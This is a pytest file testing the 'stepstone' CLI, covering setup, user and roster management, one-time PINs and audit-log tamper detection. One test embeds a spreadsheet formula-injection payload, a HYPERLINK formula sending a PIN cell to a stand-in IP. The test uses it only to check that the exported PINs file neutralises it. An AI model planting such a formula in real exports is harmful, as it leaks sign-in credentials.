"""The `stepstone` command, through click's CliRunner."""

from __future__ import annotations

import csv
import json
import re
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from server.cli.main import cli
from server.core.db import Database
from server.core.settings import Settings, load_settings
from server.people import accounts
from server.people.accounts import Role
from tests.conftest import audit_link, rewrite_audit_log


def run(runner: CliRunner, data_dir: Path, *args: str) -> Result:
    return runner.invoke(cli, ["--data-dir", str(data_dir), *args], catch_exceptions=False)


def test_init_makes_a_private_key_a_database_and_an_admin(
    runner: CliRunner, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    result = run(runner, data, "init", "--admin", "chief", "--name", "The Chief")
    assert result.exit_code == 0, result.output
    assert re.search(r"admin\s+chief\s+one-time password: [a-z2-9-]{14}", result.output)
    key = data / "secret.key"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert len(key.read_text().strip()) >= 32
    assert stat.S_IMODE((data / "audit.key").stat().st_mode) == 0o600
    again = run(runner, data, "init")
    assert "already exists" in again.output
    assert key.read_text() == key.read_text()


def test_commands_before_init_say_what_to_do(runner: CliRunner, tmp_path: Path) -> None:
    result = runner.invoke(cli, ["--data-dir", str(tmp_path / "none"), "audit", "verify"])
    assert result.exit_code == 1 and "stepstone init" in result.output


def test_user_add_reset_unlock(runner: CliRunner, tmp_path: Path) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    added = run(runner, data, "user", "add", "learner", "k700", "Kim Lee", "--language", "es")
    assert re.search(r"K700\s+one-time PIN: \d{6}", added.output)
    bad = runner.invoke(cli, ["--data-dir", str(data), "user", "add", "educator", "x", "X"])
    assert bad.exit_code == 1 and "A username is 3 to 32" in bad.output
    reset = run(runner, data, "user", "reset", "K700")
    assert "one-time PIN" in reset.output
    assert "Unlocked K700" in run(runner, data, "user", "unlock", "k700").output


def test_roster_import_dry_run_then_commit(runner: CliRunner, tmp_path: Path) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    csv_file = tmp_path / "roster.csv"
    csv_file.write_text("facility_id,name,language,group\nL1,Lu,es,Unit 1\nL2,Max,en,Unit 1\n")
    dry = run(runner, data, "roster", "import", str(csv_file))
    assert "2 new" in dry.output and "Dry run" in dry.output
    database = Database(data / "stepstone.db")
    assert accounts.find_user(database, Role.LEARNER, "L1") is None
    pins = tmp_path / "pins.csv"
    done = run(runner, data, "roster", "import", str(csv_file), "--commit", "--pins-out", str(pins))
    assert "Imported: 2 new" in done.output
    assert stat.S_IMODE(pins.stat().st_mode) == 0o600
    assert re.search(r"^L1,Lu,\d{6}$", pins.read_text(), re.M)
    assert accounts.find_user(database, Role.LEARNER, "L2") is not None
    assert "new group: Unit 1 (kind from --group-kind)" in dry.output
    # The same learners again, from a spreadsheet that saved semicolons: what changes.
    csv_file.write_text("facility_id;name;language;group\nL1;Luz;es;Unit 1\nL2;Max;en;Unit 1\n")
    again = run(runner, data, "roster", "import", str(csv_file))
    assert "The columns are separated by semicolons; read that way." in again.output
    assert "line 2: L1: name: Lu -> Luz" in again.output
    assert "1 new" not in again.output and "1 to update, 1 unchanged, 0 new groups" in again.output


def test_roster_pins_file_keeps_names_as_text(runner: CliRunner, tmp_path: Path) -> None:
    """The one-time PINs file is opened in a spreadsheet: a name can neither run a
    formula nor shift the PIN into another column."""
    data = tmp_path / "data"
    run(runner, data, "init")
    csv_file = tmp_path / "roster.csv"
    formula = '=HYPERLINK("http://203.0.113.9/?"&C2,"Open me")'
    csv_file.write_text(
        "facility_id,name,language\n"
        + 'L1,"'
        + formula.replace('"', '""')
        + '",en\n'
        + 'L2,"Lee, Ann",es\n'
    )
    pins = tmp_path / "pins.csv"
    run(runner, data, "roster", "import", str(csv_file), "--commit", "--pins-out", str(pins))
    with pins.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["facility_id"], r["name"]) for r in rows] == [
        ("L1", "'" + formula),
        ("L2", "Lee, Ann"),
    ]
    assert all(re.fullmatch(r"\d{6}", r["one_time_pin"]) for r in rows)


def test_roster_with_problems_exits_non_zero(runner: CliRunner, tmp_path: Path) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    csv_file = tmp_path / "roster.csv"
    csv_file.write_text("facility_id,name\nL1,Lu\n")
    result = runner.invoke(cli, ["--data-dir", str(data), "roster", "import", str(csv_file)])
    assert result.exit_code == 1
    assert "no column named language" in result.output


def test_audit_verify_reports_a_broken_chain(runner: CliRunner, tmp_path: Path) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    run(runner, data, "user", "add", "learner", "M1", "Mo")
    ok = run(runner, data, "audit", "verify")
    assert "Audit log OK: 2 entries" in ok.output
    database = Database(data / "stepstone.db")
    with database.write() as db:
        db.execute("DROP TRIGGER audit_log_no_update")
        db.execute("UPDATE audit_log SET actor = 'someone else' WHERE id = 1")
    broken = runner.invoke(cli, ["--data-dir", str(data), "audit", "verify"])
    assert broken.exit_code == 1 and "BROKEN at entry 1" in broken.output


def test_audit_verify_against_a_saved_head_finds_a_history_rewritten_with_the_key(
    runner: CliRunner, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    checked = run(runner, data, "audit", "verify")
    saved = re.search(r"Head now: (\d+:[0-9a-f]{64})", checked.output)
    assert saved, checked.output
    run(runner, data, "user", "add", "learner", "M1", "Mo")
    later = run(runner, data, "audit", "verify", "--against", saved.group(1))
    assert "Audit log OK: 2 entries" in later.output
    assert "The saved head (entry 1) is still in the log." in later.output
    # Someone who holds the audit key as well rewrites entry 1 and links all again: the
    # chain alone looks fine, the head written down earlier shows the rewrite.
    key = bytes.fromhex((data / "audit.key").read_text().strip())
    database = Database(data / "stepstone.db")
    rewrite_audit_log(database, 1, lambda prev, row: audit_link(prev, row, key))
    database.close()
    assert "Audit log OK" in run(runner, data, "audit", "verify").output
    rewritten = runner.invoke(
        cli, ["--data-dir", str(data), "audit", "verify", "--against", saved.group(1)]
    )
    assert rewritten.exit_code == 1 and "REWRITTEN: entry 1" in rewritten.output
    bad = runner.invoke(cli, ["--data-dir", str(data), "audit", "verify", "--against", "yesterday"])
    assert bad.exit_code == 2 and "1234:<64 hex digits>" in bad.output


def test_audit_verify_without_the_audit_key_says_where_to_find_it(
    runner: CliRunner, tmp_path: Path
) -> None:
    data = tmp_path / "data"
    run(runner, data, "init")
    (data / "audit.key").unlink()
    missing = runner.invoke(cli, ["--data-dir", str(data), "audit", "verify"])
    assert missing.exit_code == 1 and "Copy audit.key back from the newest backup" in missing.output


def test_demo_creates_four_people_with_one_time_sign_ins(runner: CliRunner, tmp_path: Path) -> None:
    data = tmp_path / "demo"
    result = run(runner, data, "demo", "--no-serve")
    assert result.exit_code == 0, result.output
    assert len(re.findall(r"one-time (PIN|password)", result.output)) == 4
    # The demo class is made like any other: each member's joining is in the audit log.
    database = Database(load_settings(environ={}, data_dir=data).database_path)
    joined = database.query(
        "SELECT target, detail FROM audit_log WHERE action = 'group.add-member' ORDER BY id"
    )
    database.close()
    assert [(r[0], json.loads(r[1])["member"]) for r in joined] == [
        ("group:Demo Class", "educator:teacher"),
        ("group:Demo Class", "learner:A1001"),
        ("group:Demo Class", "learner:A1002"),
    ]
    again = run(runner, data, "demo", "--no-serve")
    assert "already in" in again.output
    # Lost sign-ins: the real command that gives one person a new one, for this folder.
    hint = re.search(r"stepstone --data-dir (\S+) user reset (\S+)", again.output)
    assert hint is not None and hint.group(1) == str(data)
    reset = run(runner, Path(hint.group(1)), "user", "reset", hint.group(2))
    assert reset.exit_code == 0 and "one-time password" in reset.output
    assert "teacher" in again.output and "A1002" in again.output


def test_demo_serves_on_stepstone_port(
    runner: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    served: list[tuple[str, int, int]] = []

    def run_server(settings: Settings, workers: int) -> None:
        served.append((settings.host, settings.port, workers))

    monkeypatch.setattr("server.cli.main.run_server", run_server)
    data = tmp_path / "demo"
    run(runner, data, "demo", "--no-serve")
    result = runner.invoke(cli, ["--data-dir", str(data), "demo"], env={"STEPSTONE_PORT": "8123"})
    assert result.exit_code == 0, result.output
    assert served == [("127.0.0.1", 8123, 1)]
    assert "Open http://127.0.0.1:8123/ in a browser" in result.output
    run(runner, data, "demo", "--port", "8124")  # the option wins over the variable
    assert served[-1] == ("127.0.0.1", 8124, 1)


def test_a_wrong_data_folder_names_the_option_and_the_variable(
    runner: CliRunner, tmp_path: Path
) -> None:
    result = runner.invoke(cli, ["--data-dir", str(tmp_path / "elsewhere"), "user", "reset", "x"])
    assert result.exit_code == 1
    assert f"No Stepstone data in {tmp_path / 'elsewhere'}" in result.output
    assert "--data-dir" in result.output and "STEPSTONE_DATA_DIR" in result.output


def test_settings_lists_every_variable(runner: CliRunner) -> None:
    result = runner.invoke(cli, ["settings"])
    assert "STEPSTONE_LEARNER_IDLE_MINUTES" in result.output
    assert "STEPSTONE_TRUSTED_PROXIES" in result.output
